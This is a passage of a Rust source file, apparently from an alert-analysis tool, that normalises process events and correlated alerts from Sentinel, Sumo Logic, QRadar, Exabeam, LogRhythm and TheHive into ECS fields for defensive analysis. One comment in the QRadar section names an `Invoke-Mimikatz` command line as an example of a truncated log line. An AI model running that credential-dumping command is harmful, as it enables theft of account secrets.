//! SIEM and XDR platforms' own shapes for a process event or a correlated alert, mapped onto
//! ECS: Microsoft Sentinel's ASIM process events, IBM QRadar AQL event rows, Exabeam alerts,
//! Rapid7 InsightIDR investigations and alerts with their evidence, Devo alerts carrying their
//! event in `extraData`, Trend Micro's flat detections (Apex One, Vision One search),
//! Sekoia.io alerts with their ECS events, rows of Sentinel's `Event` table, and Exchange's
//! cmdlet log.
//!
//! Platforms that correlate several events into one alert (a logon, `sudo`, then the shell)
//! list them in order: the newest process event is the process; the other process events'
//! command lines follow its own, one per line, so the analysis sees the whole chain. Field
//! names differ in case and separators between platforms and custom properties ("Process
//! CommandLine", `process_command_line`, `processCommandLine`), so they are compared
//! normalised: lower case, without spaces, `_`, `-` or `.`.

use super::edr::{
    finish, mtext, put_process, set_techniques, set_user, syslog_command, text, trend_chain,
    with_branches,
};
use super::{s, set_path};
use serde_json::{Map, Value as Json};
use std::collections::HashMap;

/// A flat event's fields by normalised name.
struct Flat<'a>(HashMap<String, &'a Json>);

impl<'a> Flat<'a> {
    fn new(ev: &'a Map<String, Json>) -> Self {
        Flat(
            ev.iter()
                .map(|(k, v)| {
                    // QRadar's custom event properties carry a ` (custom)` suffix.
                    let k = k.strip_suffix(" (custom)").unwrap_or(k);
                    let k: String = k
                        .chars()
                        .filter(|c| !matches!(c, ' ' | '_' | '-' | '.' | '(' | ')'))
                        .flat_map(char::to_lowercase)
                        .collect();
                    (k, v)
                })
                .collect(),
        )
    }

    /// The first of `names` with a non-empty text value.
    fn get(&self, names: &[&str]) -> Option<&'a str> {
        names.iter().find_map(|n| {
            self.0
                .get(*n)
                .and_then(|v| v.as_str())
                .map(str::trim)
                .filter(|v| !v.is_empty() && *v != "-" && *v != "null" && *v != "N/A")
        })
    }

    fn num(&self, names: &[&str]) -> Option<i64> {
        names.iter().find_map(|n| {
            let v = self.0.get(*n)?;
            v.as_i64().or_else(|| v.as_str()?.trim().parse().ok())
        })
    }
}

/// A process event under whatever names a platform gives it: the process (path, name, command
/// line, id, directory), its parent and the user. `None` when it names no process.
fn flat_process(ev: &Map<String, Json>) -> Option<Map<String, Json>> {
    let f = Flat::new(ev);
    let cmd = f.get(&[
        "processcommandline",
        "processcmdline",
        "processcmd",
        "commandline",
        "cmdline",
        "command",
    ]);
    let name = f.get(&["processname", "process"]);
    let path = f
        .get(&[
            "processpath",
            "processfilepath",
            "processimage",
            "image",
            "exepath",
        ])
        .or(name.filter(|n| n.contains(['/', '\\'])));
    if cmd.is_none() && path.is_none() {
        return None;
    }
    let mut e = Map::new();
    put_process(&mut e, "process", path.map(str::to_owned), cmd);
    if path.is_none()
        && let Some(n) = name
    {
        set_path(&mut e, "process.name", s(n));
    }
    let pname = f.get(&["parentprocessname", "parentname"]);
    let ppath = f
        .get(&["parentprocesspath", "parentprocessfilepath", "parentimage"])
        .or(pname.filter(|n| n.contains(['/', '\\'])));
    put_process(
        &mut e,
        "process.parent",
        ppath.map(str::to_owned),
        f.get(&["parentprocesscommandline", "parentcommandline", "parentcmd"]),
    );
    if ppath.is_none()
        && let Some(n) = pname
    {
        set_path(&mut e, "process.parent.name", s(n));
    }
    for (names, to) in [
        (&["processid", "pid"][..], "process.pid"),
        (&["parentprocessid", "ppid"][..], "process.parent.pid"),
    ] {
        if let Some(v) = f.num(names) {
            set_path(&mut e, to, Json::from(v));
        }
    }
    if let Some(d) = f.get(&["processdir", "currentdirectory", "workingdirectory", "cwd"]) {
        set_path(&mut e, "process.working_directory", s(d));
    }
    if let Some(u) = f.get(&["username", "processuser", "user", "account"]) {
        match f.get(&["userdomain", "accountdomain"]) {
            Some(d) if !u.contains('\\') => set_user(&mut e, &format!("{d}\\{u}")),
            _ => set_user(&mut e, u),
        }
    }
    if let Some(h) = f.get(&[
        "hostname",
        "host",
        "computername",
        "devicehostname",
        "impactedhostname",
    ]) {
        set_path(&mut e, "host.name", s(h));
    }
    Some(e)
}

/// The newest of several process events, with the others' command lines as its branches.
fn newest_with_branches(mut procs: Vec<Map<String, Json>>) -> Option<Map<String, Json>> {
    let mut me = procs.pop()?;
    // A line reader may give the arguments only (an audit record): joined as the command line.
    let cmd = |e: &Map<String, Json>| super::edr::command_of(e.get("process")?);
    // The record of the newest one's parent (its command line is the parent's): the parent's
    // own parent is the grandparent, and its command is the parent, not another branch.
    // The parent's record is found by its process id, else by its command line.
    let pid = |e: &Map<String, Json>, path: &[&str]| {
        path.iter()
            .try_fold(e.get("process")?, |v, k| v.get(*k))
            .and_then(Json::as_i64)
    };
    let my_parent = pid(&me, &["parent", "pid"]);
    let mut parent_cmd = me
        .get("process")
        .and_then(|p| p.get("parent"))
        .and_then(|p| text(p, "command_line"))
        .map(str::to_owned);
    // Else the one other record of a program named as the parent is (ids the export left out).
    let name = |e: &Map<String, Json>, parent: bool| {
        let p = e.get("process")?;
        let p = if parent { p.get("parent")? } else { p };
        text(p, "name").map(str::to_ascii_lowercase)
    };
    let by_name: Vec<&Map<String, Json>> = procs
        .iter()
        .filter(|r| name(r, false).is_some() && name(r, false) == name(&me, true))
        .collect();
    let record = procs
        .iter()
        .rev()
        .find(|r| {
            (my_parent.is_some() && pid(r, &["pid"]) == my_parent)
                || (parent_cmd.is_some() && cmd(r) == parent_cmd)
        })
        .or_else(|| (by_name.len() == 1).then(|| by_name[0]));
    if let Some(Json::Object(rp)) = record.and_then(|r| r.get("process")) {
        for (k, v) in rp {
            let to = if k == "parent" {
                "process.parent.parent".to_owned()
            } else {
                format!("process.parent.{k}")
            };
            match v {
                Json::Object(o) if k == "parent" => {
                    for (k2, v2) in o {
                        set_path(&mut me, &format!("{to}.{k2}"), v2.clone());
                    }
                }
                _ => set_path(&mut me, &to, v.clone()),
            }
        }
        parent_cmd = parent_cmd.or_else(|| record.and_then(&cmd));
    }
    let others: Vec<String> = procs
        .iter()
        .rev()
        .filter_map(cmd)
        .filter(|c| parent_cmd.as_deref() != Some(c.as_str()))
        .collect();
    // The host is the one the other events name when the newest does not.
    let host = |e: &Map<String, Json>| e.get("host").and_then(|h| h.get("name")).cloned();
    if host(&me).is_none()
        && let Some(h) = procs.iter().rev().find_map(host)
    {
        set_path(&mut me, "host.name", h);
    }
    if let Some(all) = with_branches(cmd(&me).as_deref(), others.iter().map(String::as_str))
        && let Some(Json::Object(p)) = me.get_mut("process")
    {
        p.insert("command_line".into(), Json::String(all));
    }
    Some(me)
}

/// Microsoft Sentinel's ASIM process events (`imProcessCreate`, `_Im_ProcessEvent`): the
/// `Target*` process was started by the `Acting*` one, whose own parent is `Parent*`.
pub(super) fn sentinel_asim(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    let target_cmd = mtext(obj, "TargetProcessCommandLine");
    let target = mtext(obj, "TargetProcessName");
    if target_cmd.is_none() && target.is_none() {
        return None;
    }
    let mut e = Map::new();
    put_process(&mut e, "process", target.map(str::to_owned), target_cmd);
    put_process(
        &mut e,
        "process.parent",
        mtext(obj, "ActingProcessName").map(str::to_owned),
        mtext(obj, "ActingProcessCommandLine"),
    );
    put_process(
        &mut e,
        "process.parent.parent",
        mtext(obj, "ParentProcessName").map(str::to_owned),
        None,
    );
    for (from, to) in [
        ("TargetProcessId", "process.pid"),
        ("ActingProcessId", "process.parent.pid"),
    ] {
        if let Some(v) = obj.get(from).and_then(|v| {
            v.as_i64()
                .or_else(|| v.as_str().and_then(|x| x.parse().ok()))
        }) {
            set_path(&mut e, to, Json::from(v));
        }
    }
    if let Some(d) = mtext(obj, "TargetProcessCurrentDirectory") {
        set_path(&mut e, "process.working_directory", s(d));
    }
    if let Some(h) = mtext(obj, "TargetProcessSHA256") {
        set_path(&mut e, "process.hash.sha256", s(h));
    }
    if let Some(l) = mtext(obj, "TargetProcessIntegrityLevel").filter(|l| *l != "no level") {
        set_path(&mut e, "process.integrity_level", s(l));
    }
    if let Some(u) = mtext(obj, "TargetUsername").or_else(|| mtext(obj, "ActorUsername")) {
        set_user(&mut e, u);
    }
    if let Some(h) = ["DvcHostname", "DvcHostName", "Dvc", "Computer"]
        .into_iter()
        .find_map(|k| mtext(obj, k))
    {
        set_path(&mut e, "host.name", s(h));
    }
    if let Some(os) = mtext(obj, "DvcOs") {
        set_path(&mut e, "host.os.name", s(os));
    }
    if let Some(t) = mtext(obj, "EventStartTime").or_else(|| mtext(obj, "TimeGenerated")) {
        e.insert("@timestamp".into(), s(t));
    }
    let id = mtext(obj, "EventOriginalUid").map(str::to_owned);
    finish(
        &mut e,
        "sentinel_asim",
        "sentinel_asim",
        Json::Object(obj.clone()),
    );
    Some((e, id))
}

/// A Sumo Logic Cloud SIEM signal with the records behind it (`records[]`: normalised events,
/// `commandLine`, `baseImage`, `parentBaseImage`, `user_username`, `device_hostname`): the
/// newest process, with the other records' commands as branches (a `sudo -i`, then what root
/// ran); the techniques from the tags (`_mitreAttackTechnique:T1059.004`).
pub(super) fn sumo_cse_records(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    // The signals API names them `allRecords`; a signal as forwarded, `records`; an insight
    // (`data.signals[]`) holds its signals' records.
    let obj = match obj.get("data") {
        Some(Json::Object(d)) if d.contains_key("signals") => d,
        _ => obj,
    };
    let of = |o: &Map<String, Json>| -> Vec<Json> {
        o.get("records")
            .or_else(|| o.get("allRecords"))
            .and_then(Json::as_array)
            .cloned()
            .unwrap_or_default()
    };
    let mut records = of(obj);
    for sig in obj
        .get("signals")
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
    {
        if let Some(sig) = sig.as_object() {
            records.extend(of(sig));
        }
    }
    if records.is_empty() {
        return None;
    }
    if !records
        .iter()
        .any(|r| r.get("metadata_vendor").is_some() || r.get("metadata_product").is_some())
    {
        return None;
    }
    let mut rows: Vec<&Map<String, Json>> = records.iter().filter_map(Json::as_object).collect();
    // Epoch milliseconds (the API) or ISO text (a forwarded signal).
    let when = |r: &Map<String, Json>| match r.get("timestamp") {
        Some(Json::Number(n)) => format!("{:020}", n.as_i64().unwrap_or_default()),
        Some(Json::String(t)) => t.clone(),
        _ => String::new(),
    };
    rows.sort_by_key(|r| when(r));
    let procs: Vec<Map<String, Json>> = rows
        .into_iter()
        .filter_map(|r| {
            sumo_record(r).or_else(|| {
                match crate::alert::from_json(Json::Object(r.clone()), "")
                    .ok()?
                    .doc
                {
                    Json::Object(m) if super::names_process(&m) => Some(m),
                    _ => None,
                }
            })
        })
        .collect();
    let mut e = newest_with_branches(procs)?;
    let ids: Vec<&str> = obj
        .get("tags")
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(Json::as_str)
        .filter_map(|t| t.strip_prefix("_mitreAttackTechnique:"))
        .collect();
    set_techniques(&mut e, &ids);
    // The records' own OS (each record read alone guessed it from its paths).
    if let Some(os) = records
        .iter()
        .find_map(|r| text(r, "device_osName").or_else(|| text(r, "device_os")))
        && let Some(Json::Object(h)) = e.get_mut("host")
    {
        h.insert("os".into(), serde_json::json!({ "name": os }));
    }
    // The login account behind a sudo: the record whose own user id is the audit (login) id.
    let audit_id = e
        .get("user")
        .and_then(|u| u.get("audit"))
        .and_then(|a| text(a, "id"))
        .map(str::to_owned);
    if let Some(n) = audit_id.and_then(|a| {
        records.iter().find_map(|r| {
            (text(r, "user_userId") == Some(a.as_str()))
                .then(|| text(r, "user_username"))
                .flatten()
        })
    }) {
        set_path(&mut e, "user.audit.name", s(n));
    }
    if let Some(r) = mtext(obj, "ruleName").or_else(|| mtext(obj, "name")) {
        set_path(&mut e, "rule.name", s(r));
    }
    let id = mtext(obj, "id").map(str::to_owned);
    finish(&mut e, "sumo", "sumo_cse", Json::Object(obj.clone()));
    Some((e, id))
}

/// A Cloud SIEM record of a Windows event whose own fields came along under `fields`
/// (`EventData.ScriptBlockText`, `EventData.Path` …; the event id in `metadata_deviceEventId`,
/// "Microsoft-Windows-PowerShell-4104"): read as the flat event.
fn sumo_windows_fields(r: &Map<String, Json>) -> Option<Map<String, Json>> {
    let fields = r.get("fields")?.as_object()?;
    let eid: String = mtext(r, "metadata_deviceEventId")?
        .rsplit('-')
        .next()?
        .chars()
        .filter(char::is_ascii_digit)
        .collect();
    if eid.is_empty() {
        return None;
    }
    let mut flat: Map<String, Json> = fields
        .iter()
        .map(|(k, v)| {
            (
                k.strip_prefix("EventData.").unwrap_or(k).to_owned(),
                v.clone(),
            )
        })
        .collect();
    flat.insert("EventID".into(), s(&eid));
    if let Some(h) = mtext(r, "device_hostname") {
        flat.entry("Hostname").or_insert_with(|| s(h));
    }
    let mut e = crate::alert::windows_flat(&flat);
    if !(e.contains_key("process") || e.contains_key("powershell")) {
        return None;
    }
    if let Some(u) = mtext(r, "user_username") {
        super::edr::set_user(&mut e, u);
    }
    Some(e)
}

/// One Cloud SIEM record in Sumo Logic's normalised schema, when it names a process: the
/// program (`baseImage`, or its path in `process`), `commandLine`, the parent's and
/// grandparent's, the device and the account (`targetUser_username`: whom sudo ran it as).
fn sumo_record(r: &Map<String, Json>) -> Option<Map<String, Json>> {
    let cmd = mtext(r, "commandLine");
    let path = |a: &str, b: &str| {
        [mtext(r, a), mtext(r, b)]
            .into_iter()
            .flatten()
            .find(|p| p.contains('/') || p.contains('\\'))
            .or_else(|| mtext(r, a))
            .map(str::to_owned)
    };
    let exe = path("baseImage", "process");
    if cmd.is_none() && exe.is_none() {
        return sumo_windows_fields(r);
    }
    let mut e = Map::new();
    put_process(&mut e, "process", exe, cmd);
    put_process(
        &mut e,
        "process.parent",
        path("parentBaseImage", "parentProcess"),
        mtext(r, "parentCommandLine"),
    );
    put_process(
        &mut e,
        "process.parent.parent",
        path("grandparentBaseImage", "grandparentProcess"),
        mtext(r, "grandparentCommandLine"),
    );
    for (from, to) in [
        ("device_hostname", "host.name"),
        ("device_osName", "host.os.name"),
        ("device_os", "host.os.name"),
        ("user_username", "user.name"),
        ("user_userId", "user.id"),
        ("user_authUserId", "user.audit.id"),
        ("targetUser_username", "user.effective.name"),
    ] {
        if let Some(v) = mtext(r, from) {
            set_path(&mut e, to, s(v));
        }
    }
    for (from, to) in [("pid", "process.pid"), ("parentPid", "process.parent.pid")] {
        if let Some(n) = r
            .get(from)
            .and_then(|v| v.as_i64().or_else(|| v.as_str()?.parse().ok()))
        {
            set_path(&mut e, to, Json::from(n));
        }
    }
    // An auditd record's own ids under `fields` (uid, euid, and auid, the login's: unset is
    // 4294967295), where the normalised ones are missing.
    if let Some(f) = r.get("fields").and_then(Json::as_object) {
        for (from, to) in [
            ("uid", "user.id"),
            ("euid", "user.effective.id"),
            ("auid", "user.audit.id"),
        ] {
            let v = match f.get(from) {
                Some(Json::String(v)) => v.trim().to_owned(),
                Some(Json::Number(n)) => n.to_string(),
                _ => continue,
            };
            if !v.is_empty()
                && v != "4294967295"
                && v.bytes().all(|b| b.is_ascii_digit())
                && super::get_in(&e, to).is_none()
            {
                set_path(&mut e, to, s(&v));
            }
        }
    }
    // A Linux record (auditd, sudo) names no OS of its own.
    if super::get_in(&e, "host.os.name").is_none() {
        let linux = [mtext(r, "metadata_vendor"), mtext(r, "metadata_product")]
            .into_iter()
            .flatten()
            .any(|v| matches!(v.to_ascii_lowercase().as_str(), "linux" | "auditd" | "sudo"));
        if linux {
            set_path(&mut e, "host.os.name", s("Linux"));
        }
    }
    Some(e)
}

/// IBM QRadar's Ariel search results (`/api/ariel/searches/{id}/results`: `events`, one row
/// per event with the query's column names, often the offense's events), Exabeam alerts
/// (`events`, snake_case) and LogRhythm alarms (`alarmEventsDetails`: `command`, `process`,
/// `account`, `impactedHostName`): the process rows, newest last. QRadar names the host in its log
/// source ("LinuxServer @ db-rpt-02").
pub(super) fn correlated_events(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    // One Ariel row on its own (an offense's event exported alone): read as a result of one row.
    let is_row = |row: &Map<String, Json>| {
        row.contains_key("qid")
            && row.keys().any(|k| {
                let k = k.to_ascii_lowercase();
                k.starts_with("qidname") || k.starts_with("logsourcename")
            })
    };
    if is_row(obj) && !obj.contains_key("events") {
        let mut wrapped = Map::new();
        wrapped.insert(
            "events".into(),
            Json::Array(vec![Json::Object(obj.clone())]),
        );
        return correlated_events(&wrapped);
    }
    // An Ariel search's rows, or an offense as the API (and XSOAR's fetch) gives it, with its
    // events attached.
    let qradar = obj.contains_key("search_id")
        || obj.contains_key("offense_id")
        || (obj.contains_key("offense_type") && obj.contains_key("magnitude"))
        // An Ariel result alone: rows with QRadar's own columns.
        || obj
            .get("events")
            .and_then(Json::as_array)
            .and_then(|e| e.first())
            .and_then(Json::as_object)
            .is_some_and(|row| {
                row.contains_key("qid")
                    || row.keys().any(|k| {
                        let k = k.to_ascii_lowercase();
                        k.starts_with("qidname") || k.starts_with("logsourcename")
                    })
                    // (renamed columns: QRadar's own magnitude and credibility beside them)
                    || (row.contains_key("magnitude") && row.contains_key("credibility"))
            });
    // Exabeam: Advanced Analytics' `alertName`; New-Scale's Threat Center names it `name`.
    let exabeam = obj.contains_key("alertId")
        && (obj.contains_key("alertName")
            || (obj.contains_key("name")
                && obj.contains_key("events")
                && !obj.contains_key("ruleId")));
    let logrhythm = obj.contains_key("alarmId");
    if !(qradar || exabeam || logrhythm) {
        return None;
    }
    let events = obj
        .get(if logrhythm {
            "alarmEventsDetails"
        } else {
            "events"
        })?
        .as_array()?;
    let mut rows = audit_records(events);
    // Newest last: an export that lists them newest first is put in time order when every row
    // says when it happened (the same kind of value in each: epoch numbers, or ISO strings).
    fn when(r: &Map<String, Json>) -> Option<&Json> {
        ["startTime", "starttime", "deviceTime", "devicetime"]
            .iter()
            .find_map(|k| r.get(*k))
    }
    if rows.iter().all(|r| when(r).is_some_and(Json::is_number)) {
        let at = |r: &Map<String, Json>| when(r).and_then(Json::as_f64).unwrap_or_default();
        rows.sort_by(|a, b| at(a).total_cmp(&at(b)));
    } else if rows.iter().all(|r| when(r).is_some_and(Json::is_string)) {
        rows.sort_by(|a, b| {
            when(a)
                .and_then(Json::as_str)
                .cmp(&when(b).and_then(Json::as_str))
        });
    }
    let procs: Vec<Map<String, Json>> = rows
        .iter()
        .filter_map(|ev| {
            let f = Flat::new(ev);
            // Without parsed process fields, the raw line QRadar keeps (`payload`) may say
            // what ran.
            // A sudo line there says more than the parsed columns (sudo, the target account).
            let payload = f.get(&["payload", "utf8payload"]);
            // A raw line whose command is shorter than the parsed column's (the line cut short:
            // `Invoke-Mimikatz ...`, a truncated hex argument) loses to the parsed columns.
            let parsed_cmd = f
                .get(&["command", "processcommandline", "commandline"])
                .unwrap_or_default();
            let not_shorter = |e: &Map<String, Json>| {
                let raw = e
                    .get("process")
                    .and_then(|p| p.get("command_line"))
                    .and_then(Json::as_str)
                    .unwrap_or_default();
                parsed_cmd.len() <= raw.len()
            };
            let mut p = payload
                .and_then(super::edr::sudo_line)
                // The whole event as JSON (NXLog's, Beats'), read by its own reader.
                .or_else(|| {
                    let inner = json_object(payload?)?;
                    let (e, _) = crate::alert::normalize(inner);
                    e.contains_key("process").then_some(e)
                })
                .or_else(|| {
                    let (e, _) = crate::alert::normalize(wincollect_event(payload?)?);
                    (e.contains_key("process") && not_shorter(&e)).then_some(e)
                })
                // An auditd record kept whole says more than QRadar's parsed columns (which
                // leave `Command` empty when auditd wrote the arguments in hex).
                .or_else(|| {
                    let line = payload.filter(|p| p.contains("type=EXECVE"))?;
                    let mut m = Map::new();
                    m.insert("message".into(), s(line));
                    let (e, _) = crate::alert::normalize(m);
                    let decoded = e.get("process").and_then(|p| p.get("command_line"));
                    (decoded.is_some() && not_shorter(&e)).then_some(e)
                })
                // Parsed columns that name no program (a user alone) leave the raw line to say.
                .or_else(|| flat_process(ev).filter(super::names_process))
                .or_else(|| windows_row(ev))
                .or_else(|| payload.and_then(syslog_command))
                .or_else(|| {
                    // The whole log line the SIEM kept (LogRhythm's `logMessage`: a Windows
                    // event's XML, a script block), read as the line itself.
                    let line = f
                        .get(&["logmessage", "payload", "utf8payload"])
                        .or_else(|| {
                            // Exabeam's `rawLogs`: the lines the event was parsed from.
                            ev.get("rawLogs")?.as_array()?.first()?.as_str()
                        })?;
                    let mut m = Map::new();
                    m.insert("message".into(), s(line));
                    super::edr::log_lines(&m).map(|(e, _)| e)
                })?;
            if p.get("host").and_then(|h| h.get("name")).is_none()
                && let Some(h) = f.get(&["hostname"]).or_else(|| {
                    f.get(&["logsource", "logsourcename", "logsourcenamelogsourceid"])
                        .and_then(|l| l.rsplit_once(" @ "))
                        .map(|(_, h)| h.trim())
                })
            {
                set_path(&mut p, "host.name", s(h));
            }
            // The log source's type names the system ("Linux OS", "Microsoft Windows Security
            // Event Log"), where the line does not.
            if p.get("host")
                .and_then(|h| h.get("os"))
                .and_then(|o| o.get("type"))
                .is_none()
                && let Some(t) = f.get(&["logsourcetypename", "logsourcetypenamedevicetype"])
            {
                set_path(&mut p, "host.os.name", s(t));
            }
            // The parent's and grandparent's commands QRadar's parser kept, where the raw
            // line (one process's record) does not say them.
            for (keys, path) in [
                (
                    &["parentcommand", "parentprocesscommand", "parentcommandline"][..],
                    "process.parent.command_line",
                ),
                (
                    &["grandparentcommand", "grandparentprocesscommand"][..],
                    "process.parent.parent.command_line",
                ),
            ] {
                let known = p
                    .get("process")
                    .and_then(|x| super::get_path(x, path.trim_start_matches("process.")))
                    .is_some();
                if !known && let Some(c) = f.get(keys) {
                    set_path(&mut p, path, s(c));
                }
            }
            // The account QRadar's parser named, when the line itself names none (an audit
            // record gives only numeric ids).
            if p.get("user").and_then(|u| u.get("name")).is_none()
                && let Some(u) = f.get(&["username"]).filter(|u| !u.trim().is_empty())
            {
                set_path(&mut p, "user.name", s(u));
            }
            // What the parser's custom properties say of the parent, where the line does not:
            // its program, how many arguments it was given, its account and its environment.
            let has_parent = p
                .get("process")
                .and_then(|x| x.get("parent"))
                .is_some_and(|x| x.get("executable").is_some() || x.get("name").is_some());
            if !has_parent && let Some(pp) = f.get(&["parentprocesspath", "parentimage"]) {
                put_process(&mut p, "process.parent", Some(pp.to_owned()), None);
            }
            if let Some(n) = f
                .get(&["parentprocessargumentcount", "parentargc"])
                .and_then(|n| n.trim().parse::<i64>().ok())
            {
                set_path(&mut p, "process.parent.args_count", Json::from(n));
            }
            if let Some(u) = f.get(&["parentprocessuser", "parentuser"]) {
                set_path(&mut p, "process.parent.user.name", s(u));
            }
            if let Some(env) = f.get(&["parentprocessenvironment", "parentenv"]) {
                super::edr::set_parent_env(&mut p, env);
            }
            // The Windows event's id, where the line read did not give one (a PowerShell engine
            // event 400 says the engine started; in which program, the row's process says).
            if p.get("event").and_then(|x| x.get("code")).is_none()
                && let Some(id) = f
                    .get(&["eventid"])
                    .filter(|i| i.chars().all(|c| c.is_ascii_digit()))
            {
                set_path(&mut p, "event.code", s(id));
            }
            // A Sysmon image load (event 7): the module loaded, as the DSM's property names it.
            if let Some(dll) = f.get(&["imageloaded"])
                && p.get("file").and_then(|x| x.get("path")).is_none()
            {
                p.remove("file");
                set_path(&mut p, "file.path", s(dll));
            }
            // A 4104's script block as the Windows DSM's custom property names it.
            if let Some(sb) = f.get(&["scriptblocktext"]).filter(|t| !t.trim().is_empty())
                && p.get("powershell")
                    .and_then(|x| x.get("file"))
                    .and_then(|x| x.get("script_block_text"))
                    .and_then(Json::as_str)
                    .is_none_or(str::is_empty)
            {
                p.remove("powershell");
                set_path(&mut p, "powershell.file.script_block_text", s(sb));
            }
            Some(p)
        })
        .collect();
    let mut e = newest_with_branches(procs)?;
    let mut ids: Vec<&str> = Vec::new();
    for m in obj
        .get("mitres")
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
    {
        ids.extend(text(m, "techniqueKey"));
    }
    set_techniques(&mut e, &ids);
    let rule = mtext(obj, "alertName")
        .or_else(|| mtext(obj, "name").filter(|_| exabeam))
        .or_else(|| mtext(obj, "alarmRuleName"))
        .or_else(|| {
            mtext(obj, "offense_description")
                .or_else(|| mtext(obj, "description").filter(|_| qradar))
                .map(|d| d.lines().next().unwrap_or(d).trim())
        });
    if let Some(r) = rule {
        set_path(&mut e, "rule.name", s(r));
    }
    let id = mtext(obj, "alertId").map(str::to_owned).or_else(|| {
        obj.get("offense_id")
            .or_else(|| obj.get("alarmId"))
            .or_else(|| obj.get("id").filter(|_| qradar))
            .map(|v| v.to_string())
    });
    let provider = if exabeam {
        "exabeam"
    } else if logrhythm {
        "logrhythm"
    } else {
        "qradar"
    };
    finish(&mut e, provider, provider, Json::Object(obj.clone()));
    Some((e, id))
}

/// The rows of one Linux audit record (QRadar and Log Analytics keep its SYSCALL, EXECVE and
/// PROCTITLE lines as separate rows: the program and account in one, the arguments in another)
/// merged into one row: the record's lines joined, one per line, and the first non-empty value
/// of every other column kept. Other rows pass as they are.
pub(super) fn audit_records(events: &[Json]) -> Vec<Map<String, Json>> {
    let line = |v: &Json| v.as_str().is_some_and(|t| t.contains("msg=audit("));
    let serial = |ev: &Map<String, Json>| -> Option<String> {
        let p = ev.values().find(|v| line(v))?.as_str()?;
        let at = p.find("msg=audit(")? + "msg=audit(".len();
        let end = p[at..].find(')')?;
        Some(p[at..at + end].to_owned())
    };
    let mut out: Vec<(Option<String>, Map<String, Json>)> = Vec::new();
    for ev in events.iter().filter_map(Json::as_object) {
        let id = serial(ev);
        match out.iter_mut().find(|(k, _)| id.is_some() && *k == id) {
            Some((_, row)) => {
                for (k, v) in ev {
                    let empty = |v: &Json| match v {
                        Json::Null => true,
                        Json::String(t) => t.trim().is_empty(),
                        _ => false,
                    };
                    match (row.get_mut(k), v) {
                        (Some(Json::String(mine)), Json::String(t))
                            if line(v) && !mine.contains(t.as_str()) =>
                        {
                            mine.push('\n');
                            mine.push_str(t);
                        }
                        (Some(Json::String(_)), _) if line(v) => {}
                        (Some(mine), _) if !empty(v) && empty(mine) => *mine = v.clone(),
                        (None, _) if !empty(v) => {
                            row.insert(k.clone(), v.clone());
                        }
                        _ => {}
                    }
                }
            }
            None => out.push((id, ev.clone())),
        }
    }
    out.into_iter().map(|(_, row)| row).collect()
}

/// A QRadar row of a Windows event whose process is not in process columns: the event's own
/// fields as QRadar names them ("Event ID", "Service File Name"), read as the flat event they
/// spell (a 7045 service install's command, a 4104 script block).
fn windows_row(ev: &Map<String, Json>) -> Option<Map<String, Json>> {
    let f = Flat::new(ev);
    let eid = f
        .get(&["eventid", "windowseventidcustom", "eventidcustom"])
        .map(str::to_owned)
        .or_else(|| {
            ["Event ID", "EventID"]
                .iter()
                .find_map(|k| ev.get(*k).and_then(Json::as_i64))
                .map(|n| n.to_string())
        })?;
    let mut flat: Map<String, Json> = ev
        .iter()
        .map(|(k, v)| {
            let k = k.strip_suffix(" (custom)").unwrap_or(k);
            (
                k.chars().filter(|c| c.is_alphanumeric()).collect(),
                v.clone(),
            )
        })
        .collect();
    flat.insert("EventID".into(), s(&eid));
    let e = crate::alert::windows_flat(&flat);
    e.contains_key("process").then_some(e)
}

/// A TheHive alert (`sourceRef`, with `artifacts` or `observables`): the process as the feeding
/// integration described it — a Markdown table in the description (`| CommandLine | … |`)
/// and observables whose message names the field they came from ("parent command line",
/// "data.win.eventdata.image", "grandparent image").
pub(super) fn thehive_alert(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    // An alert names its source (`sourceRef`); a case promoted from one is `_type` "Case".
    if !obj.contains_key("sourceRef") && mtext(obj, "_type") != Some("Case") {
        return None;
    }
    let observables = obj
        .get("artifacts")
        .or_else(|| obj.get("observables"))?
        .as_array()?;
    // The description's two-cell table rows.
    let mut table: Vec<(String, String)> = Vec::new();
    for line in mtext(obj, "description").unwrap_or_default().lines() {
        // `**Key**: value` lines, as case templates write them.
        if let Some((k, v)) = line
            .trim()
            .strip_prefix("**")
            .and_then(|l| l.split_once("**:"))
        {
            let (k, v) = (k.trim(), v.trim());
            if !k.is_empty() && !v.is_empty() {
                table.push((super::generic::key(k), v.to_owned()));
            }
            continue;
        }
        let cells: Vec<&str> = line
            .trim()
            .trim_matches('|')
            .split('|')
            .map(str::trim)
            .collect();
        if let [k, v] = cells[..] {
            let clean = |x: &str| {
                x.trim_matches(|c| c == '`' || c == '*' || c == ' ')
                    .to_owned()
            };
            let (k, v) = (clean(k), clean(v));
            if !k.is_empty() && !v.is_empty() && !k.starts_with('-') && k != "Field" {
                table.push((super::generic::key(&k), v));
            }
        }
    }
    let row = |names: &[&str]| -> Option<String> {
        names
            .iter()
            .find_map(|n| table.iter().find(|(k, _)| k == n).map(|(_, v)| v.clone()))
    };
    let mut cmd = row(&["commandline", "processcommandline", "cmdline"]);
    let mut parent_cmd = row(&["parentcommandline", "parentprocesscommandline"]);
    let mut image = row(&["image", "processpath", "newprocessname", "process"]);
    let mut parent_image = row(&["parentimage", "parentprocesspath", "parentprocess"]);
    let mut grand = row(&["grandparent", "grandparentimage"]);
    let mut host = row(&["host", "hostname", "computer", "agent", "device"])
        // "SRV-1.corp (Windows Server 2022, 10.0.0.4)": the name before its details.
        .map(|h| h.split(" (").next().unwrap_or(&h).trim().to_owned());
    let mut user = row(&["user", "username", "account"])
        .map(|u| u.split(" (").next().unwrap_or(&u).trim().to_owned());
    for o in observables {
        let kind = text(o, "dataType").unwrap_or_default();
        let data = match o.get("data").and_then(Json::as_str) {
            Some(d) if !d.trim().is_empty() => d.trim().to_owned(),
            _ => continue,
        };
        let msg = text(o, "message").unwrap_or_default().to_ascii_lowercase();
        let tagged = |t: &str| {
            o.get("tags")
                .and_then(Json::as_array)
                .is_some_and(|a| a.iter().any(|x| x.as_str() == Some(t)))
        };
        let slot = match kind {
            // A grandparent's program (its image), not its command line.
            "other"
                if msg.contains("grandparent")
                    && (msg.contains("image") || tagged("process"))
                    && !data.contains(' ') =>
            {
                &mut grand
            }
